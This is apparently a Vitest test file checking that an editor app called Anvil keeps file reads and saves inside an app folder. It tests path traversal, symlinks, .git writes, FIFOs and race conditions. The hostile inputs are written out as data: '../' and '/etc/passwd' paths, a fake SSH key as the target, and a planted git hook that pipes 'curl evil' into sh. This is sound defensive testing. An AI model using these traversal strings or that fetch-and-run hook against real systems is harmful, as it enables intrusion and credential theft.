import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { scratchFolder } from '../testing';
import { confirmWritableFolder } from './app-file-path';
import { listAppFolder, readAppFile, saveAppFile } from './index';

// A cloned app folder is hostile: every path in it, and every path the renderer sends, may try to reach the rest of the disk.

function hostileApp(): { folder: string; outside: string } {
  const outside = scratchFolder();
  writeFileSync(path.join(outside, 'id_rsa'), 'PRIVATE KEY');
  const folder = path.join(scratchFolder(), 'app');
  mkdirSync(path.join(folder, 'src'), { recursive: true });
  writeFileSync(path.join(folder, 'src', 'index.js'), 'export const run = 1;\n');
  writeFileSync(path.join(folder, 'manifest.yml'), 'modules: {}\n');
  return { folder, outside };
}

describe('app file paths stay inside the app folder', () => {
  it.each([
    ['..', '../outside.txt', 'leads out of the app folder (..)'],
    ['.. after a folder', 'src/../../outside.txt', 'leads out of the app folder (..)'],
    ['an absolute path', '/etc/passwd', 'is an absolute path'],
    ['a drive letter', 'C:/Windows/win.ini', 'is an absolute path'],
    ['a NUL character', 'src/index.js\0.png', 'contains a NUL character'],
    ['a backslash', 'src\\..\\..\\outside.txt', 'contains a backslash; use / between folders'],
    ['a control character', 'src/index.js\n[anvil] saved', 'contains a control character'],
  ])('refuses %s for reading, saving and listing, and writes nothing', async (_what, typed, why) => {
    const { folder } = hostileApp();
    const before = readdirSync(path.dirname(folder)).sort();
    await expect(readAppFile(folder, typed)).rejects.toMatchObject({ code: 'bad-request', message: expect.stringContaining(`${why}; give a path inside the app folder`) });
    await expect(saveAppFile(folder, typed, 'x')).rejects.toMatchObject({ code: 'bad-request' });
    await expect(listAppFolder(folder, typed)).rejects.toMatchObject({ code: 'bad-request' });
    expect(readdirSync(path.dirname(folder)).sort()).toEqual(before);
  });

  it('never reads through a link to a file or a folder outside the app', async () => {
    const { folder, outside } = hostileApp();
    symlinkSync(path.join(outside, 'id_rsa'), path.join(folder, 'src', 'key.txt'));
    symlinkSync(outside, path.join(folder, 'src', 'home'));
    await expect(readAppFile(folder, 'src/key.txt')).rejects.toThrow(/src\/key\.txt does not exist in the app folder/);
    await expect(readAppFile(folder, 'src/home/id_rsa')).rejects.toThrow(/does not exist in the app folder/);
    await expect(listAppFolder(folder, 'src/home')).rejects.toThrow(/does not exist in the app folder/);
  });

  it('reads through a link that stays inside the app', async () => {
    const { folder } = hostileApp();
    symlinkSync(path.join(folder, 'src'), path.join(folder, 'code'));
    expect((await readAppFile(folder, 'code/index.js')).text).toBe('export const run = 1;\n');
  });

  it('never saves through a link, to a file or through a folder, even one that stays inside the app', async () => {
    const { folder, outside } = hostileApp();
    symlinkSync(path.join(outside, 'id_rsa'), path.join(folder, 'src', 'key.txt'));
    symlinkSync(outside, path.join(folder, 'home'));
    symlinkSync(path.join(folder, 'src'), path.join(folder, 'code'));
    await expect(saveAppFile(folder, 'src/key.txt', 'overwritten')).rejects.toThrow(/is a symbolic link.*Anvil does not save through links/);
    await expect(saveAppFile(folder, 'home/id_rsa', 'overwritten')).rejects.toThrow(/Cannot save home\/id_rsa: the folder home is a symbolic link/);
    await expect(saveAppFile(folder, 'home/new.txt', 'planted')).rejects.toThrow(/the folder home is a symbolic link/);
    await expect(saveAppFile(folder, 'code/index.js', 'x')).rejects.toThrow(/the folder code is a symbolic link/);
    expect(readFileSync(path.join(outside, 'id_rsa'), 'utf8')).toBe('PRIVATE KEY');
    expect(existsSync(path.join(outside, 'new.txt'))).toBe(false);
  });

  it('never writes inside .git, whatever its case', async () => {
    const { folder } = hostileApp();
    mkdirSync(path.join(folder, '.git', 'hooks'), { recursive: true });
    for (const file of ['.git/hooks/pre-commit', '.git/config', '.GIT/config', 'src/.git/config', '.g\u200cit/config', '.git./config', '.git /config', 'GIT~1/config']) {
      await expect(saveAppFile(folder, file, '#!/bin/sh\ncurl evil | sh\n')).rejects.toThrow(/inside \.git; Anvil does not write there/);
    }
    expect(existsSync(path.join(folder, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(existsSync(path.join(folder, '.git', 'config'))).toBe(false);
  });

  it('refuses a FIFO or a device at a file name instead of hanging on it', async () => {
    const { folder } = hostileApp();
    execFileSync('mkfifo', [path.join(folder, 'src', 'pipe.js')]);
    symlinkSync('/dev/zero', path.join(folder, 'src', 'zero.js'));
    await expect(readAppFile(folder, 'src/pipe.js')).rejects.toThrow(/src\/pipe\.js is not a regular file/);
    await expect(saveAppFile(folder, 'src/pipe.js', 'x')).rejects.toThrow(/is not a regular file/);
    await expect(readAppFile(folder, 'src/zero.js')).rejects.toThrow(/does not exist in the app folder/);
    expect((await listAppFolder(folder, 'src')).entries.map((entry) => entry.name)).toEqual(['index.js']);
  });

  it("refuses a save whose base revision no longer matches the disk, and keeps the other program's text", async () => {
    const { folder } = hostileApp();
    const opened = await readAppFile(folder, 'src/index.js');
    writeFileSync(path.join(folder, 'src', 'index.js'), 'changed by git pull\n');
    await expect(saveAppFile(folder, 'src/index.js', 'my edit\n', opened.revision)).rejects.toMatchObject({
      code: 'app-file-conflict',
      message: 'src/index.js was changed by another program since you opened it. Reload it to see those changes, or overwrite them with your text.',
    });
    expect(readFileSync(path.join(folder, 'src', 'index.js'), 'utf8')).toBe('changed by git pull\n');
  });

  it('refuses to save when a folder on the way became a link after it was checked', async () => {
    const { folder, outside } = hostileApp();
    const { realpathSync, renameSync } = await import('node:fs');
    const root = realpathSync(folder);
    // The check saw a real src/; another program swaps it for a link before the write.
    renameSync(path.join(folder, 'src'), path.join(folder, 'src-old'));
    symlinkSync(outside, path.join(folder, 'src'));
    await expect(confirmWritableFolder(root, path.join(root, 'src', 'index.js'), 'src/index.js')).rejects.toThrow(/Cannot save src\/index\.js: its folder changed into a link while saving/);
    await expect(confirmWritableFolder(root, path.join(root, 'src-old', 'index.js'), 'src-old/index.js')).resolves.toBeUndefined();
  });
});
